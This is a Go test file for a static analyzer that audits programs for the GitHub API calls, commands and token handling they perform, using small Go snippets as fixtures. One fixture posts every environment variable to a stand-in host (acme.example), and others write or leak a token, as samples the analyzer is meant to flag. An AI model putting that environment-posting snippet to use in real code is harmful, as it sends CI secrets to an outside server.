package script

import (
	"fmt"
	"path"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/rogpeppe/go-internal/txtar"

	"github.com/patrol-actions/patrol/audit/value"
)

// goInput is a program made of files: "-- cmd/x/main.go --".
func goInput(archive string, env *value.Env) GoInput {
	files := map[string]string{}
	for _, f := range txtar.Parse([]byte(archive)).Files {
		files[f.Name] = string(f.Data)
	}
	return GoInput{
		Folder: "cmd/x", Env: env,
		List: func(folder string) []string {
			var names []string
			for name := range files {
				if path.Dir(name) == folder {
					names = append(names, path.Base(name))
				}
			}
			slices.Sort(names)
			return names
		},
		Read: func(name string) (string, bool) {
			source, ok := files[name]
			return source, ok
		},
	}
}

const goHead = `-- go.mod --
module example.com/m
-- cmd/x/main.go --
package main

import (
	"context"
	"flag"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"strings"

	"github.com/google/go-github/v66/github"
	"golang.org/x/oauth2"
)

var ctx = context.Background()

func connect(token string) *github.Client { return github.NewClient(nil).WithAuthToken(token) }

`

func goCalls(result Result) []string {
	var got []string
	for _, c := range result.Calls {
		words := []string{c.Method}
		if len(c.Path) > 0 {
			words = append(words, c.Path.String())
		}
		if c.Kind == REST {
			words = append(words, strings.TrimSuffix(c.Arguments["owner"].String()+"/"+c.Arguments["repo"].String(), "/"))
		}
		if c.Kind == REST && c.Open {
			words = append(words, "open")
		}
		if d, ok := c.Arguments["draft"]; ok {
			words = append(words, "draft="+d.String())
		}
		for _, w := range c.Command {
			words = append(words, w.String())
		}
		got = append(got, strings.TrimSpace(strings.Join(words, " ")))
	}
	return got
}

func TestReadGo(t *testing.T) {
	const own = "${{ github.repository_owner }}/${{ github.event.repository.name }}"
	tests := []struct {
		name, source string
		want         []string
		unread       string
	}{
		{"service", `func main() { c := connect(os.Getenv("TOKEN")); c.Repositories.CreateRelease(ctx, "a", "b", &github.RepositoryRelease{Draft: github.Bool(true)}) }`, []string{"repos/create-release a/b draft=true"}, ""},
		{"own repository", `func main() { c := connect(os.Getenv("TOKEN")); owner, repo, _ := strings.Cut(os.Getenv("GITHUB_REPOSITORY"), "/"); c.Issues.Create(ctx, owner, repo, nil) }`, []string{"issues/create " + own}, ""},
		{"split", `func main() { c := connect(os.Getenv("TOKEN")); p := strings.Split(os.Getenv("GITHUB_REPOSITORY"), "/"); c.Issues.Create(ctx, p[0], p[1], nil) }`, []string{"issues/create " + own}, ""},
		{"oauth2", `func main() {
	ts := oauth2.StaticTokenSource(&oauth2.Token{AccessToken: os.Getenv("TOKEN")})
	tc := oauth2.NewClient(ctx, ts)
	github.NewClient(tc).Issues.ListByRepo(ctx, "a", "b", nil)
}`, []string{"issues/list-for-repo a/b"}, ""},
		{"field and method", `type app struct { client *github.Client; owner string }
func (a *app) run() error { _, _, err := a.client.PullRequests.Merge(ctx, a.owner, "b", 1, "", nil); return err }
func main() { a := &app{client: connect(os.Getenv("TOKEN")), owner: "a"}; if err := a.run(); err != nil { fmt.Println(err) } }`, []string{"pulls/merge a/b"}, ""},
		{"service in a field", `type app struct { releases *github.RepositoriesService }
func main() { a := app{connect(os.Getenv("TOKEN")).Repositories}; a.releases.ListReleases(ctx, "a", "b", nil) }`, []string{"repos/list-releases a/b"}, ""},
		{"list of repositories", `func main() { c := connect(os.Getenv("TOKEN")); for _, r := range []string{"b", "c"} { c.Issues.Create(ctx, "a", r, nil) } }`, []string{"issues/create a/b|c"}, ""},
		{"looked up", `func main() { t, ok := os.LookupEnv("TOKEN"); if !ok { panic("TOKEN is not set") }; connect(t).Users.Get(ctx, "") }`, []string{"users/get-authenticated"}, ""},
		{"somebody", `func main() { connect(os.Getenv("TOKEN")).Users.Get(ctx, "octocat") }`, []string{"users/get-by-username"}, ""},
		{"function that is not called", `func main() { connect(os.Getenv("TOKEN")).Zen(ctx) }
func other(c *github.Client) { c.Repositories.Delete(ctx, "a", "b") }`, nil, ""},
		{"required", `func need(name string) string { v := os.Getenv(name); if v == "" { fmt.Println(name, "is not set"); os.Exit(1) }; return v }
func main() { connect(need("TOKEN")).Repositories.Get(ctx, "a", "b") }`, []string{"repos/get a/b"}, ""},
		{"first of several", `func main() { var t string; for _, n := range []string{"OTHER", "TOKEN"} { if v := os.Getenv(n); v != "" { t = v } }; connect(t).Repositories.Get(ctx, "a", "b") }`, []string{"repos/get a/b"}, ""},
		{"closure", `func main() { get := func(c *github.Client, repo string) { c.Repositories.Get(ctx, "a", repo) }; get(connect(os.Getenv("TOKEN")), "b") }`, []string{"repos/get a/b"}, ""},
		{"own request", `func main() { c := connect(os.Getenv("TOKEN")); req, _ := c.NewRequest("PUT", fmt.Sprintf("repos/%s/x/topics", "a"), nil); c.Do(ctx, req, nil) }`, []string{"PUT /repos/a/x/topics"}, ""},
		{"request written out", `func main() { connect(os.Getenv("TOKEN")).Issues.Edit(ctx, "a", "b", 7, &github.IssueRequest{Body: nil}) }`, []string{"issues/update a/b"}, ""},
		{"request from elsewhere", `func main() { r := &github.IssueRequest{}; r.State = nil; connect(os.Getenv("TOKEN")).Issues.Edit(ctx, "a", "b", 7, r) }`, []string{"issues/update a/b open"}, ""},
		{"request without names", `func main() { connect(os.Getenv("TOKEN")).Issues.Edit(ctx, "a", "b", 7, &github.IssueRequest{x, y}) }`, []string{"issues/update a/b open"}, ""},
		{"operands", `func main() { repo := flag.String("repo", "x", ""); org := flag.String("org", "o", ""); c := connect(os.Getenv("TOKEN")); c.Issues.Create(ctx, os.Args[1], *repo, nil); c.Issues.Create(ctx, *org, os.Args[5], nil) }`, []string{"issues/create a/x", "issues/create o/os.Args[5]"}, ""},
		{"net/http", `func main() {
	req, _ := http.NewRequest(http.MethodPost, "https://api.github.com/repos/a/b/dispatches", strings.NewReader("{}"))
	req.Header.Set("Authorization", "Bearer "+os.Getenv("TOKEN"))
	http.DefaultClient.Do(req)
}`, []string{"POST https://api.github.com/repos/a/b/dispatches"}, ""},
		{"program", `func main() { cmd := exec.Command("gh", "release", "create", "v1"); cmd.Env = append(os.Environ(), "X=1"); cmd.Run() }`, []string{"gh release create v1"}, ""},
		{"printed", `func main() { fmt.Println(len(os.Getenv("TOKEN"))) }`, nil, ""},
		// What is not understood is never left out.
		{"unknown method", `func main() { connect(os.Getenv("TOKEN")).Repositories.Frobnicate(ctx, "a", "b") }`, nil, "calls Repositories.Frobnicate of go-github, which is not known"},
		{"embedded", `type app struct { *github.Client }
func main() { a := app{connect(os.Getenv("TOKEN"))}; a.Issues.Create(ctx, "a", "b", nil) }`, nil, "calls Issues.Create of a client that is not followed"},
		{"callback", `func each(f func(*github.Client)) { f(connect(os.Getenv("TOKEN"))) }
func main() { each(func(c *github.Client) { c.Issues.Create(ctx, "a", "b", nil) }) }`, []string{"issues/create a/b"}, ""},
		{"map", `func main() { m := map[string]*github.Client{}; m["x"] = connect(os.Getenv("TOKEN")); m["x"].Issues.Create(ctx, "a", "b", nil) }`, []string{"issues/create a/b"}, "does something with the token that is not followed"},
		{"channel", `func main() { c := make(chan string, 1); c <- os.Getenv("TOKEN") }`, nil, "sends the token through a channel"},
		{"written", `func main() { os.WriteFile("x", []byte(os.Getenv("TOKEN")), 0o600) }`, nil, "hands the token to os.WriteFile"},
		{"written by Fprintf", `func main() { f, _ := os.Create("x"); fmt.Fprintf(f, "%s", os.Getenv("TOKEN")) }`, nil, "hands the token to fmt.Fprintf"},
		{"environment", `func main() { for _, kv := range os.Environ() { http.Post("https://acme.example/", "text/plain", strings.NewReader(kv)) } }`, nil, "hands the token to http.Post"},
		{"computed name", `func main() { fmt.Println(os.Getenv(os.Args[9])) }`, nil, "reads a variable whose name is only known when it runs"},
		{"name handed on", `func main() { http.Get("TOKEN") }`, nil, "hands the token to http.Get; names the variable TOKEN without a way to it that is followed"},
		{"server of its own", `func main() { c, _ := connect(os.Getenv("TOKEN")).WithEnterpriseURLs(os.Getenv("X"), ""); c.Issues.Create(ctx, "a", "b", nil) }`, []string{"issues/create a/b"}, "calls WithEnterpriseURLs of the client, which is not followed"},
		{"address changed", `func main() { c := connect(os.Getenv("TOKEN")); c.BaseURL = nil }`, nil, "changes BaseURL of the client"},
		{"transport", `type t struct { token string }
func (t *t) RoundTrip(r *http.Request) (*http.Response, error) { r.Header.Set("Authorization", t.token); return http.DefaultTransport.RoundTrip(r) }
func main() { github.NewClient(&http.Client{Transport: &t{token: os.Getenv("TOKEN")}}).Issues.Create(ctx, "a", "b", nil) }`, nil, "hands the token to r.Header.Set"},
		{"expanded", `func main() { http.Get(os.ExpandEnv("https://api.github.com/?t=$TOKEN")) }`, nil, "hands the token to os.ExpandEnv"},
		{"program by a literal", `func main() { c := &exec.Cmd{Path: "/bin/x"}; c.Run() }`, nil, "starts a program that is not known here"},
		{"process", `func main() { os.StartProcess("/bin/x", nil, nil) }`, nil, "starts a program that is not known here"},
		{"method that nobody calls here", `type job struct{ c *github.Client }
func (j job) Process() { j.c.Issues.Create(ctx, "a", "b", nil) }
func main() { http.Handle("/", job{connect(os.Getenv("TOKEN"))}) }`, []string{"issues/create a/b"}, ""},
		{"unknown program", `func main() { exec.Command(os.Args[9], "x").Run() }`, nil, "starts a program that is not known here"},
		{"other folder", `func main() { cmd := exec.Command("git", "push"); cmd.Dir = "/tmp/x"; cmd.Run() }`, []string{"git push"}, ""},
		{"wrapper", `func run(name string, args ...string) error { path, err := exec.LookPath(name); if err != nil { return err }; return exec.Command(path, args...).Run() }
func git(dir string, args ...string) { run("git", append([]string{"-C", dir}, args...)...) }
func main() { git("x", "add", "."); if len(os.Args) > 9 { git("x", "tag", os.Args[1]) }; run("gh", "pr", "list") }`, []string{"git -C x add .", "gh pr list"}, ""},
		{"wrapper that is handed on", `type runner func(string, ...string) error
func run(name string, args ...string) error { return exec.Command(name, args...).Run() }
func publish(draft bool, do runner) error { args := []string{"release", "create"}; if draft { args = append(args, "--draft") }; return do("gh", args...) }
func main() { run("git", "status"); publish(os.Getenv("DRAFT") != "", run) }`, []string{"git status", "gh release create --draft", "gh release create"}, ""},
		{"wrapper in a field", `type app struct { do func(...string) error }
func main() { a := app{do: func(args ...string) error { return exec.Command("git", args...).Run() }}; a.do("push", "origin") }`, []string{"git push origin"}, ""},
		{"token that is there", `func url() string { t := os.Getenv("TOKEN"); if t == "" { return "https://x/y" }; return "https://"+t+"@x/y" }
func git(args ...string) { exec.Command("git", args...).Run() }
func main() { git("clone", url()) }`, []string{"git clone https://${{ secrets.PAT }}@x/y"}, ""},
		{"words that are not known", `func git(args ...string) { exec.Command("git", args...).Run() }
func main() { git(strings.Fields(os.Getenv("X"))...) }`, nil, "starts a program that is not known here"},
		{"several that are not known", `type app struct{ a, b string }
func git(args ...string) { exec.Command("git", args...).Run() }
func main() { x := app{a: os.Args[7]}; x.a = os.Args[8]; x.a = os.Args[9]; git("tag", x.a, "-m", x.a, "-u", x.a) }`, []string{"git tag os.Args[7] -m os.Args[7] -u os.Args[7]"}, ""},
		{"lists of words", `func git(args ...string) { exec.Command("git", args...).Run() }
func main() { for _, w := range [][]string{{"add", "."}, {"push", "origin"}} { git(w...) } }`, []string{"git add .", "git push origin"}, ""},
		{"each of a list", `func main() { for _, b := range []string{"x", "y"} { exec.Command("git", "push", "origin", b).Run() } }`, []string{"git push origin x", "git push origin y"}, ""},
		{"callback of others", `func main() { http.HandleFunc("/", func(http.ResponseWriter, *http.Request) { exec.Command("git", "push").Run() }) }`, []string{"git push"}, ""},
		{"calls itself", `func run(n string, args ...string) { if n == "" { run("gh", args...) }; exec.Command(n, args...).Run() }
func main() { run("git", "status") }`, []string{"git status"}, "starts programs in ways that lead too far to be followed"},
		{"token in the environment of a program", `func main() { cmd := exec.Command("git", "push"); cmd.Env = append(os.Environ(), "A=1", os.Args[9] + "=" + os.Getenv("TOKEN")); cmd.Run() }`, []string{"git push"}, "gives a program the token in a variable that is not known"},
		{"commands", `func main() { c := connect(os.Getenv("TOKEN")); switch os.Args[1] { case "x": c.Repositories.Delete(ctx, "a", "b") } }`, nil, "picks what it does by its operands"},
		{"picked", `func main() { c := connect(os.Getenv("TOKEN")); switch os.Args[1] { case "a": c.Issues.Create(ctx, "a", "b", nil); case "x": c.Repositories.Delete(ctx, "a", "b") } }`, []string{"issues/create a/b"}, ""},
		{"picked through a call", `func main() { run(connect(os.Getenv("TOKEN")), os.Args[1:]) }
func run(c *github.Client, args []string) { if len(args) < 2 { c.Zen(ctx); return }; switch cmd := args[0]; cmd { case "a": c.Issues.Create(ctx, "a", "b", nil); default: c.Repositories.Delete(ctx, "a", "b") } }`, []string{"issues/create a/b"}, ""},
		{"picked by a name that is given more", `func main() { run(connect(os.Getenv("TOKEN")), os.Args[1:]) }
func run(c *github.Client, args []string) { cmd := args[0]; if cmd == "a" { cmd = "x" }; if cmd == "x" { c.Repositories.Delete(ctx, "a", "b") } }`, []string{"repos/delete a/b"}, ""},
		{"a flag behind an operand", `func main() { repo := flag.String("repo", "", ""); dry := flag.Bool("dry", false, ""); flag.Parse(); c := connect(os.Getenv("TOKEN")); if *dry { c.Repositories.Delete(ctx, "a", "b") } else if *repo == "b" { c.Issues.Create(ctx, "a", "b", nil) } else { c.Repositories.Delete(ctx, "a", "b") } }`, []string{"repos/delete a/b"}, ""},
		{"never given", `var dry bool
func main() { c := connect(os.Getenv("TOKEN")); if dry { c.Repositories.Delete(ctx, "a", "b") }; flag.BoolVar(&dry, "dry", false, "") }`, []string{"repos/delete a/b"}, ""},
		{"graphql", `func main() { req, _ := http.NewRequest("POST", "https://api.github.com/graphql", nil); req.Header.Set("Authorization", os.Getenv("TOKEN")); http.DefaultClient.Do(req) }`, nil, "asks GraphQL"},
		{"syntax", `func main() {`, nil, "does not parse: cmd/x/main.go"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			in := goInput(goHead+test.source, pythonEnv())
			in.Operands = []value.Value{value.Text("a"), value.Text("--repo=b")}
			result := ReadGo(in)
			if diff := cmp.Diff(test.want, goCalls(result)); diff != "" {
				t.Errorf("calls (-want +got):\n%s", diff)
			}
			var unread []string
			for _, u := range result.Unread {
				unread = append(unread, u.Message)
			}
			if got := strings.Join(unread, "; "); got != test.unread {
				t.Errorf("unread %q, want %q", got, test.unread)
			}
		})
	}
}

// TestReadGoPackages follows the program into packages of its module.
func TestReadGoPackages(t *testing.T) {
	const inner = `
-- internal/gh/gh.go --
package gh

import (
	"context"
	"os"

	"github.com/google/go-github/v66/github"
)

var Client = github.NewClient(nil).WithAuthToken(os.Getenv("TOKEN"))

func Comment(owner string) { Client.Issues.CreateComment(context.Background(), owner, "b", 1, nil) }

func Remove() { Client.Repositories.Delete(context.Background(), "a", "b") }
`
	main := "-- go.mod --\nmodule example.com/m\n-- cmd/x/main.go --\npackage main\n\nimport \"example.com/m/%s\"\n\nfunc main() { gh.Comment(\"a\") }\n"
	result := ReadGo(goInput(fmt.Sprintf(main, "internal/gh")+inner, pythonEnv()))
	if diff := cmp.Diff([]string{"issues/create-comment a/b"}, goCalls(result)); diff != "" || len(result.Unread) > 0 {
		t.Errorf("calls (-want +got):\n%s\nunread: %v", diff, result.Unread)
	}
	result = ReadGo(goInput(fmt.Sprintf(main, "elsewhere/gh")+inner, pythonEnv()))
	if len(result.Unread) != 1 || !strings.Contains(result.Unread[0].Message, "not in this checkout") {
		t.Errorf("a package that is missing: %v", result.Unread)
	}
	beside := strings.ReplaceAll(fmt.Sprintf(main, "x"), "example.com/m", "example.com/owner/m")
	result = ReadGo(goInput(strings.ReplaceAll(beside, "example.com/owner/m/x", "example.com/owner/other/gh"), pythonEnv()))
	if len(result.Unread) != 1 || !strings.Contains(result.Unread[0].Message, "which is not read") {
		t.Errorf("a package of another module of the same owner: %v", result.Unread)
	}
}

func FuzzReadGo(f *testing.F) {
	f.Add(`func main() { c := connect(os.Getenv("TOKEN")); c.Repositories.CreateRelease(ctx, "a", "b", &github.RepositoryRelease{Draft: github.Bool(true)}) }`)
	f.Add(`type app struct { *github.Client; a, b func() app }; func (a app) a() app { return a.b().a() }; func main() { x := x; x.a().b(x...); for k, v := range x { k, v = v, k } }`)
	f.Add(`func main() { r, _ := http.NewRequest("POST", "u"+os.Getenv("TOKEN"), nil); r.Header.Set("a", "b"); (&http.Client{}).Do(r); exec.Command("gh", []string{"x"}...) }`)
	f.Add(`func f[T any](a ...T) (b, c T) { defer func() { go f(a[1:]...) }(); return f(a...) }; func main() { x, y := f[int](1); switch z := any(x).(type) { case int: _ = fmt.Sprintf("%d%%%", z, y) } }`)
	f.Fuzz(func(t *testing.T, source string) {
		if len(source) > 4096 {
			return
		}
		in := goInput("", pythonEnv())
		in.Files = []string{"main.go"}
		whole := strings.SplitN(goHead, "-- cmd/x/main.go --\n", 2)[1] + source
		in.Read = func(name string) (string, bool) { return whole, path.Base(name) == "main.go" }
		for _, c := range ReadGo(in).Calls {
			if c.Start < 0 || c.Start > len(whole) {
				t.Errorf("%s call at %d of %d", c.Kind, c.Start, len(whole))
			}
		}
	})
}
